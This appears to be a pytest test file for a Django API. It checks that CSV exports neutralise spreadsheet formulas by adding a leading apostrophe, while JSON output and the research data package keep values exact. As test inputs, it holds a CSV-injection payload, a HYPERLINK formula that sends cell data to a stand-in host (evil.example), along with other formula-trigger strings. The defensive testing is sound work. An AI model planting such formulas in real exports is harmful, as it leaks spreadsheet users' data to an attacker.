"""?format=csv is for spreadsheets: a cell that would run as a formula gets a leading apostrophe.

The data package is for researchers' tools and keeps every value exact.
"""

import csv
import io
import zipfile

import pytest

from common.api.renderers import spreadsheet_cell
from tests.api.helpers import streamed_csv

pytestmark = pytest.mark.django_db

FORMULAS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
def formula_statement(world):
    statement = world.statements[0]
    statement.title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    statement.text = "-2+3 is not a formula here"
    statement.people = ["@someone", "Plain Name"]
    statement.save()
    return statement


@pytest.mark.parametrize(("value", "cell"), FORMULAS.items())
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("value", ["a = b", "Shamiso Mtisi", "", None, -3, 2019, True, ["a", "-b"], "2019-11-22"])
def test_other_cells_are_left_alone(value):
    from common.api.renderers import flatten_value

    assert spreadsheet_cell(value) == flatten_value(value)


def test_csv_list_neutralises_formulas_and_json_keeps_them(api_client, formula_statement):
    rows = streamed_csv(api_client.get("/api/v1/statements/", {"format": "csv", "area": "scope"}))

    assert rows[0]["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert rows[0]["text"] == "'-2+3 is not a formula here"
    assert rows[0]["people"] == "'@someone; Plain Name"
    assert rows[0]["organisation"] == "kp-civil-society-coalition"
    record = api_client.get(f"/api/v1/statements/{formula_statement.pk}/").json()
    assert record["title"] == formula_statement.title


def test_csv_of_one_record_neutralises_formulas_too(api_client, formula_statement):
    response = api_client.get(f"/api/v1/statements/{formula_statement.pk}/?format=csv")

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["title"].startswith("'=HYPERLINK(")


def test_data_package_keeps_values_exact(api_client, formula_statement):
    archive = zipfile.ZipFile(io.BytesIO(api_client.get("/api/v1/datapackage.zip").content))

    rows = list(csv.DictReader(io.StringIO(archive.read("data/statements.csv").decode())))

    row = next(row for row in rows if row["id"] == str(formula_statement.pk))
    assert row["title"] == formula_statement.title
    assert row["text"] == "-2+3 is not a formula here"
    assert row["people"] == "@someone; Plain Name"


def test_the_openapi_schema_says_so(api_client):
    schema = api_client.get("/api/schema/", HTTP_ACCEPT="application/json").json()

    format_parameter = next(
        parameter
        for parameter in schema["paths"]["/api/v1/statements/"]["get"]["parameters"]
        if parameter["name"] == "format"
    )
    assert "leading `'`" in format_parameter["description"]
    assert "keeps every value exact" in format_parameter["description"]
